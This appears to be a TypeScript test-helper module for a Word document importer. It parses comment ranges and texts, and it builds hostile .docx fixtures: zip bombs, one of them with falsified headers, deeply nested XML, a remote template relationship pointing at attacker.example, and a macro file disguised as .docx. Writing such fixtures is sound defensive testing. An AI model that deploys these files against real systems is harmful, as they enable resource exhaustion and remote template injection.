import { XMLParser } from 'fast-xml-parser';
import JSZip from 'jszip';
import { Document, Packer, Paragraph } from 'docx';

/**
 * The text inside each comment range of a Word document, by comment id, read
 * from its XML as Word would: the runs' text between the range marks, with a
 * blank line where a range runs over a paragraph's end.
 */
export async function commentRanges(bytes: Uint8Array): Promise<Map<string, string>> {
  const zip = await JSZip.loadAsync(bytes);
  const xml = (await zip.file('word/document.xml')?.async('string')) ?? '';
  const parser = new XMLParser({ preserveOrder: true, ignoreAttributes: false, attributeNamePrefix: '', trimValues: false });
  const open = new Map<string, string>();
  const closed = new Map<string, string>();
  const walk = (nodes: Record<string, unknown>[]) => {
    for (const node of nodes) {
      const tag = Object.keys(node).find((key) => key !== ':@') ?? '';
      const id = (node[':@'] as Record<string, string> | undefined)?.['w:id'];
      if (tag === 'w:commentRangeStart' && id !== undefined) open.set(id, '');
      else if (tag === 'w:commentRangeEnd' && id !== undefined) {
        closed.set(id, open.get(id) ?? '');
        open.delete(id);
      } else if (tag === '#text') for (const key of open.keys()) open.set(key, (open.get(key) ?? '') + String(node['#text']));
      else if (tag === 'w:p' && open.size > 0) {
        for (const key of open.keys()) if ((open.get(key) ?? '') !== '') open.set(key, `${open.get(key) ?? ''}\n\n`);
        walk((node[tag] as Record<string, unknown>[]) ?? []);
      } else walk((node[tag] as Record<string, unknown>[]) ?? []);
    }
  };
  walk(parser.parse(xml) as Record<string, unknown>[]);
  return closed;
}

/** Each comment's text by id (its paragraphs joined by a line break), read from the package's XML. */
export async function commentTexts(bytes: Uint8Array): Promise<Map<string, string>> {
  const zip = await JSZip.loadAsync(bytes);
  const xml = (await zip.file('word/comments.xml')?.async('string')) ?? '';
  const parser = new XMLParser({
    ignoreAttributes: false,
    attributeNamePrefix: '',
    isArray: (name) => ['w:comment', 'w:p', 'w:r', 'w:t'].includes(name),
  });
  const parsed = parser.parse(xml) as { 'w:comments'?: { 'w:comment'?: Record<string, unknown>[] } };
  const texts = new Map<string, string>();
  for (const comment of parsed['w:comments']?.['w:comment'] ?? []) {
    const paragraphs = (comment['w:p'] as Record<string, unknown>[] | undefined) ?? [];
    const text = paragraphs
      .map((paragraph) =>
        ((paragraph['w:r'] as Record<string, unknown>[] | undefined) ?? [])
          .flatMap((run) => (run['w:t'] as unknown[] | undefined) ?? [])
          .map((t) => (typeof t === 'object' && t !== null ? String((t as Record<string, unknown>)['#text'] ?? '') : String(t)))
          .join(''),
      )
      .join('\n');
    texts.set(String(comment['w:id']), text);
  }
  return texts;
}

/** A small plain Word document, the base of the hostile ones. */
async function plainDocx(): Promise<Uint8Array> {
  return new Uint8Array(await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('Ferries run twice a day.')] }] })));
}

async function tampered(change: (zip: JSZip) => void): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(await plainDocx());
  change(zip);
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' });
}

/**
 * A zip whose headers say a part is smaller than it is: each record naming
 * `name` (its local header and its central directory entry) declares `size`.
 */
function declareSize(bytes: Uint8Array, name: string, size: number): Uint8Array {
  const patched = new Uint8Array(bytes);
  const view = new DataView(patched.buffer);
  const wanted = new TextEncoder().encode(name);
  const named = (at: number) => wanted.every((byte, index) => patched[at + index] === byte);
  for (let at = 0; at + 46 < patched.length; at++) {
    const signature = view.getUint32(at, true);
    if (signature === 0x04034b50 && view.getUint16(at + 26, true) === wanted.length && named(at + 30)) view.setUint32(at + 22, size, true);
    if (signature === 0x02014b50 && view.getUint16(at + 28, true) === wanted.length && named(at + 46)) view.setUint32(at + 24, size, true);
  }
  return patched;
}

/** Word files no one should import, each with what makes it hostile. */
export const hostileWordFiles = {
  /** A few hundred kilobytes that unpack to 70 MiB. */
  'a zip bomb': () => tampered((zip) => zip.file('word/media/padding.bin', new Uint8Array(70 * 1024 * 1024))),
  /** The same, declaring its padding a kilobyte: found out as it inflates. */
  'a zip bomb that lies about its size': async () =>
    declareSize(
      await tampered((zip) => zip.file('word/media/padding.bin', new Uint8Array(70 * 1024 * 1024))),
      'word/media/padding.bin',
      1024,
    ),
  /** Elements nested 300 deep. */
  'a deeply nested document': () =>
    tampered((zip) =>
      zip.file(
        'word/document.xml',
        `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${'<w:sdt>'.repeat(300)}${'</w:sdt>'.repeat(300)}</w:body></w:document>`,
      ),
    ),
  /** A template fetched from elsewhere when Word opens it. */
  'an external relationship': () =>
    tampered((zip) =>
      zip.file(
        'word/_rels/settings.xml.rels',
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
          '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' +
          'Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>',
      ),
    ),
  /** A macro-enabled document (.docm) renamed .docx. */
  'a .docm with macros renamed .docx': () =>
    tampered((zip) => {
      zip.file('word/vbaProject.bin', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]));
      zip.file(
        '[Content_Types].xml',
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
          '<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' +
          '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      );
    }),
  /** Text saved under a Word file's name. */
  'a file that is not a zip': () => Promise.resolve(new TextEncoder().encode('Ferries run twice a day. (Saved as .docx by mistake.)')),
} satisfies Record<string, () => Promise<Uint8Array>>;
